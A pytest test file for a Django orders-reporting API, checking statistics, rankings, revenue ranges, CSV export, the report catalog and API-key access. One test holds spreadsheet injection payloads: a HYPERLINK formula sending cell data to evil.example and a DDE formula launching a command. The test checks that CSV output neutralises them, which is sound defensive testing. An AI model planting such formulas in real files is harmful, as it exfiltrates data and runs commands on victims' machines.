from __future__ import annotations

import datetime
import re
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client

from api.auth import ERROR_BOUND_KEY
from api.csv_stream import AS_OF_HEADER
from api.errors import MESSAGES
from orders.models import Customer
from orders.services import ItemData, order_create, order_status_add
from reports.api import ERROR_NO_STATS_YET, ERROR_UNKNOWN_USER
from reports.refresh import reports_refresh
from reports.schemas import CUSTOMERS_MAX as CUSTOMERS_MAX_LIMIT
from reports.selectors import reports_as_of
from reports.tests.conftest import api_client, csv_rows
from reports.tests.conftest import json_body as body

ERROR_REQUIRED = MESSAGES["missing"]
pytestmark = pytest.mark.django_db

REPORT_URLS = [
    "/api/reports/customers/ranking?limit=7&offset=3",
    "/api/reports/customers/loyal?min_completed_orders=3&limit=9",
    "/api/reports/products/top?by=units&limit=12",
    "/api/reports/products/top?by=revenue&limit=12",
    "/api/reports/products/SKU-0007/also-bought?limit=10",
    "/api/reports/revenue/monthly?from=2024-06&to=2025-03",
    "/api/reports/revenue/daily?from=2025-06-01&to=2025-06-30",
]
ALL_CUSTOMER_URLS = [*REPORT_URLS, "/api/v1/orders/cancelled/"]


def as_csv_text(value) -> str:
    return "" if value is None else str(value)


@pytest.mark.parametrize("url", [*ALL_CUSTOMER_URLS, "/api/reports/", "/api/orders/stats?user=x"])
def test_every_endpoint_needs_an_api_key(url):
    response = Client().get(url)
    assert response.status_code == 401
    assert response["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize("url", ALL_CUSTOMER_URLS)
def test_keys_bound_to_a_customer_cannot_read_reports_spanning_every_customer(url):
    Customer.objects.create(username="bound")
    response = api_client(customer="bound").get(url)
    assert response.status_code == 403
    assert body(response)["detail"] == ERROR_BOUND_KEY


def test_stats_answer_seed_003s_shape_with_as_of(refreshed, client_all):
    response = client_all.get("/api/orders/stats?user=edge_buyer")
    assert response.status_code == 200
    stats = body(response)
    assert list(stats)[:4] == ["user", "orders_count", "total_revenue", "avg_order_value"]
    # EDGE-1 Complete (30.00), EDGE-2 refunded, EDGE-3 without history.
    assert stats["orders_count"] == 3
    assert (stats["completed_orders"], stats["cancelled_orders"]) == (1, 1)
    assert stats["total_revenue"] == stats["avg_order_value"] == Decimal("30.00")
    assert '"total_revenue": 30.00' in response.content.decode()
    assert stats["as_of"] == reports_as_of().isoformat()


def test_stats_of_a_customer_without_orders_have_no_average(refreshed, client_all):
    stats = body(client_all.get("/api/orders/stats?user=no_orders"))
    assert (stats["orders_count"], stats["total_revenue"], stats["avg_order_value"]) == (
        0,
        Decimal("0.00"),
        None,
    )


def test_stats_errors(refreshed, client_all):
    missing = client_all.get("/api/orders/stats")
    assert missing.status_code == 400
    assert body(missing)["errors"] == [{"pointer": "/query/user", "detail": ERROR_REQUIRED}]
    unknown = client_all.get("/api/orders/stats?user=nobody")
    assert unknown.status_code == 404
    assert body(unknown)["detail"] == ERROR_UNKNOWN_USER.format(username="nobody")
    Customer.objects.create(username="newcomer")  # after the last refresh
    newcomer = client_all.get("/api/orders/stats?user=newcomer")
    assert newcomer.status_code == 404
    assert body(newcomer)["detail"] == ERROR_NO_STATS_YET.format(username="newcomer")


def test_a_bound_key_reads_its_own_statistics_only(refreshed):
    client = api_client(customer="edge_buyer")
    assert client.get("/api/orders/stats?user=edge_buyer").status_code == 200
    assert client.get("/api/orders/stats?user=no_orders").status_code == 403
    assert client.get("/api/orders/stats?user=nobody").status_code == 403  # no existence leak


@pytest.mark.parametrize(
    ("url", "pointers"),
    [
        ("/api/reports/customers/ranking?limit=abc&offset=-1", ["/query/limit", "/query/offset"]),
        ("/api/reports/customers/ranking?limit=0", ["/query/limit"]),
        ("/api/reports/customers/ranking?format=xml", ["/query/format"]),
        ("/api/reports/customers/loyal?min_completed_orders=x", ["/query/min_completed_orders"]),
        ("/api/reports/customers/loyal?more_than=-1", ["/query/more_than"]),
        (
            "/api/reports/customers/loyal?more_than=4&min_completed_orders=5",
            ["/query/min_completed_orders"],
        ),
        (
            "/api/reports/customers/loyal.csv?more_than=4&min_completed_orders=5",
            ["/query/min_completed_orders"],
        ),
        ("/api/reports/products/top?by=price", ["/query/by"]),
        ("/api/reports/revenue/monthly?from=2025-13&to=2025", ["/query/from", "/query/to"]),
        ("/api/reports/revenue/monthly?from=2025-05&to=2025-04", ["/query/from"]),
        ("/api/reports/revenue/daily?from=2025-02-30", ["/query/from"]),
        ("/api/reports/revenue/daily?from=2023-01-01&to=2025-01-01", ["/query/from"]),
        ("/api/v1/orders/cancelled/?page=0&page_size=x", ["/query/page_size", "/query/page"]),
        ("/api/v1/orders/cancelled/?page=99999", ["/query/page"]),
        ("/api/v1/orders/cancelled/?cursor=not-a-cursor", ["/query/cursor"]),
        ("/api/v1/orders/cancelled/?cursor=&page=2", ["/query/page"]),
    ],
)
def test_bad_parameters_are_400_problems_pointing_at_them(url, pointers, client_all):
    response = client_all.get(url)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert sorted(error["pointer"] for error in body(response)["errors"]) == sorted(pointers)


def test_limits_are_capped(refreshed, client_all):
    ranking = body(client_all.get("/api/reports/customers/ranking?limit=100000"))
    assert ranking["limit"] == CUSTOMERS_MAX_LIMIT
    assert len(ranking["results"]) <= CUSTOMERS_MAX_LIMIT
    also = body(client_all.get("/api/reports/products/SKU-0007/also-bought?limit=500"))
    assert also["limit"] == 20


def test_ranking_pages_follow_next_links_without_repeats_or_gaps(refreshed, client_all):
    url, seen = "/api/reports/customers/ranking?limit=37", []
    while url:
        page = body(client_all.get(url))
        seen += [(row["revenue_rank"], row["customer_id"]) for row in page["results"]]
        url = page["next"]
    assert seen == sorted(seen)
    assert len(seen) == len(set(seen)) == Customer.objects.count()


def test_money_is_a_json_number_with_two_decimals(refreshed, client_all):
    text = client_all.get("/api/reports/customers/ranking?limit=50").content.decode()
    amounts = re.findall(r'"total_revenue": ([^,}]+)', text)
    assert len(amounts) == 50
    assert all(re.fullmatch(r"\d+\.\d\d", amount) for amount in amounts)


def test_loyal_customers_have_at_least_n_completed_orders(refreshed, client_all):
    loyal = body(client_all.get("/api/reports/customers/loyal?min_completed_orders=8&limit=500"))
    ranking = body(client_all.get("/api/reports/customers/ranking?limit=500"))["results"]
    expected = [row["user"] for row in ranking if row["completed_orders"] >= 8]
    assert [row["user"] for row in loyal["results"]] == expected
    assert 0 < len(expected) < len(ranking)


def test_loyal_customers_default_to_seed_001s_more_than_5_completed_orders(refreshed, client_all):
    ranking = body(client_all.get("/api/reports/customers/ranking?limit=500"))["results"]
    default = body(client_all.get("/api/reports/customers/loyal?limit=500"))
    assert (default["more_than"], default["min_completed_orders"]) == (5, 6)
    expected = [row["user"] for row in ranking if row["completed_orders"] > 5]
    assert [row["user"] for row in default["results"]] == expected
    assert any(row["completed_orders"] == 5 for row in ranking)  # the boundary is exercised
    assert all(row["completed_orders"] >= 6 for row in default["results"])
    explicit = body(client_all.get("/api/reports/customers/loyal?more_than=7&limit=500"))
    deprecated = body(
        client_all.get("/api/reports/customers/loyal?min_completed_orders=8&limit=500")
    )
    assert explicit["results"] == deprecated["results"]
    assert (deprecated["more_than"], deprecated["min_completed_orders"]) == (7, 8)
    csv_users = [
        row["user"] for row in csv_rows(client_all.get("/api/reports/customers/loyal.csv"))
    ]
    assert csv_users == expected


def test_the_loyal_threshold_is_documented_as_more_than_with_the_old_name_deprecated():
    from api.main import api

    operation = api.get_openapi_schema(path_prefix="/api/")["paths"][
        "/api/reports/customers/loyal"
    ]["get"]
    parameters = {parameter["name"]: parameter for parameter in operation["parameters"]}
    assert parameters["more_than"]["schema"]["default"] == 5
    assert "more than" in parameters["more_than"]["description"]
    assert parameters["min_completed_orders"]["deprecated"] is True
    assert not parameters["more_than"].get("deprecated")


@pytest.mark.parametrize("by", ["revenue", "units"])
def test_top_products_follow_their_rank(by, refreshed, client_all):
    rows = body(client_all.get(f"/api/reports/products/top?by={by}&limit=200"))["results"]
    keys = [(row[f"{by}_rank"], row["sku"]) for row in rows]
    assert keys == sorted(keys) and keys[0][0] == 1


def test_also_bought(refreshed, client_all):
    rows = body(client_all.get("/api/reports/products/SKU-0007/also-bought"))["results"]
    assert [row["rank"] for row in rows] == list(range(1, len(rows) + 1))
    assert rows and all(row["sku"] != "SKU-0007" and row["name"] for row in rows)
    missing = client_all.get("/api/reports/products/NOPE/also-bought")
    assert missing.status_code == 404


def test_revenue_ranges_include_both_ends(refreshed, client_all):
    monthly = body(client_all.get("/api/reports/revenue/monthly?from=2024-06&to=2025-03"))
    assert [row["month"] for row in monthly["results"]][::9] == ["2024-06", "2025-03"]
    daily = body(client_all.get("/api/reports/revenue/daily?from=2025-06-14&to=2025-06-15"))
    assert [row["day"] for row in daily["results"]] == ["2025-06-14", "2025-06-15"]
    latest = body(client_all.get("/api/reports/revenue/daily"))  # 31 days to the last with data
    assert (latest["from"], latest["to"]) == ("2025-12-01", "2025-12-31")
    assert latest["results"][-1]["day"] == "2025-12-31"


def csv_url(url: str) -> str:
    """The list's .csv operation with the same query (limit included)."""
    path, _, query = url.partition("?")
    return f"{path.rstrip('/')}.csv?{query}"


@pytest.mark.parametrize("url", REPORT_URLS)
def test_csv_parses_and_matches_json(url, refreshed, client_all):
    as_json = client_all.get(url)
    redirect = client_all.get(f"{url}&format=csv")
    assert redirect.status_code == 307
    assert redirect["Location"] == csv_url(url)
    as_csv = client_all.get(csv_url(url))
    assert as_csv["Content-Type"].startswith("text/csv")
    assert as_csv[AS_OF_HEADER] == body(as_json)["as_of"]
    expected = [
        {column: as_csv_text(value) for column, value in row.items()}
        for row in body(as_json)["results"]
    ]
    assert csv_rows(as_csv) == expected
    assert expected


def test_csv_without_a_limit_streams_every_row(refreshed, client_all):
    rows = csv_rows(client_all.get("/api/reports/customers/ranking.csv"))
    assert len(rows) == Customer.objects.count() > CUSTOMERS_MAX_LIMIT / 5


def test_the_catalog_lists_every_report_with_its_freshness(orders_data, client_all):
    before = body(client_all.get("/api/reports/"))
    assert before["freshness"]["stale"] is True and before["freshness"]["as_of"] is None
    assert {entry["stale"] for entry in before["reports"]} == {True}
    run = reports_refresh()
    catalog = body(client_all.get("/api/reports/"))
    assert catalog["freshness"]["as_of"] == run.as_of.isoformat()
    assert catalog["freshness"]["pending_changes"] == 0
    assert catalog["last_refresh"]["mode"] == "full"
    assert catalog["last_attempt"]["ok"] is True
    assert len(catalog["reports"]) == 11
    for entry in catalog["reports"]:
        assert entry["as_of"] == run.as_of.isoformat()
        assert entry["stale"] is False and entry["rows"] > 0 and entry["rows_exact"] is True
        assert entry["endpoints"] and entry["description"]
    Customer.objects.create(username="pending")
    pending = body(client_all.get("/api/reports/"))
    assert pending["freshness"]["pending_changes"] == 1
    assert pending["reports"][0]["pending_changes"] == 1


def test_a_large_report_is_sized_by_its_statistics_not_counted(refreshed, client_all, monkeypatch):
    """Issue 11: count(*) of the stored reports made the catalog 40 ms at 10M orders."""
    monkeypatch.setattr("reports.catalog.EXACT_COUNT_BELOW", 2)
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE reports_data.customer_stats")
        cursor.execute(
            "SELECT reltuples::bigint FROM pg_class "
            "WHERE oid = 'reports_data.customer_stats'::regclass"
        )
        estimate = cursor.fetchone()[0]
    entries = {e["name"]: e for e in body(client_all.get("/api/reports/"))["reports"]}
    assert (entries["customer_stats"]["rows"], entries["customer_stats"]["rows_exact"]) == (
        estimate,
        False,
    )


def test_a_report_computed_on_read_from_a_large_table_is_estimated_not_computed(
    refreshed, client_all, monkeypatch
):
    """Counting also-bought ranks every stored pair (0.7 s at 100,000 orders): past
    EXACT_COMPUTED_BELOW rows of its table, even before they were ever analyzed, the catalog
    gives the planner's estimate (a table never analyzed is sized by its live rows)."""
    monkeypatch.setattr("reports.catalog.EXACT_COMPUTED_BELOW", 2)
    with connection.cursor() as cursor:  # statistics a test's transaction can see
        cursor.execute("ANALYZE reports_data.also_bought_pair, reports_data.daily_order_stats")
    entries = {e["name"]: e for e in body(client_all.get("/api/reports/"))["reports"]}
    assert entries["also_bought"]["rows_exact"] is False and entries["also_bought"]["rows"] > 0
    assert entries["monthly_revenue"]["rows_exact"] is False
    assert entries["customer_stats"]["rows_exact"] is True  # stored: counted while small


def test_a_key_bound_to_a_customer_may_read_the_catalog():
    Customer.objects.create(username="bound")
    assert api_client(customer="bound").get("/api/reports/").status_code == 200


FORMULAS = {
    "user": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "sku": "@SUM(1+1)",
    "name": "=cmd|' /C calc'!A0",
}


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client_all):
    customer = Customer.objects.create(username=FORMULAS["user"])
    order = order_create(
        customer=customer,
        order_number="F-1",
        created_at=datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC),
        total_amount=Decimal("2.00"),
        items=[ItemData(FORMULAS["sku"], FORMULAS["name"], 2, Decimal("1.00"))],
    )
    order_status_add(order=order, status="Complete")
    reports_refresh()
    customers = csv_rows(client_all.get("/api/reports/customers/ranking.csv"))
    assert customers[0]["user"] == "'" + FORMULAS["user"]
    assert customers[0]["total_revenue"] == "2.00"  # numbers stay numbers
    products = csv_rows(client_all.get("/api/reports/products/top.csv"))
    assert (products[0]["sku"], products[0]["name"]) == ("'@SUM(1+1)", "'" + FORMULAS["name"])
    assert products[0]["units_sold"] == "2"


@pytest.mark.parametrize("to", ["2000-01-01", "2000-01-30"])
def test_daily_revenue_up_to_the_first_days_there_are(refreshed, client_all, to):
    response = client_all.get(f"/api/reports/revenue/daily?to={to}")  # issue 10: was a 500
    assert response.status_code == 200  # (issue 19: days start at 2000-01-01, as orders do)
    assert (body(response)["from"], body(response)["to"]) == ("2000-01-01", to)
    assert body(response)["results"] == []


def test_an_integer_parameter_given_empty_is_a_400(client_all):
    """Issue 10 (schemathesis): `limit=` was taken as no limit given."""
    response = client_all.get("/api/reports/customers/ranking?limit=")
    assert response.status_code == 400
    assert [error["pointer"] for error in body(response)["errors"]] == ["/query/limit"]
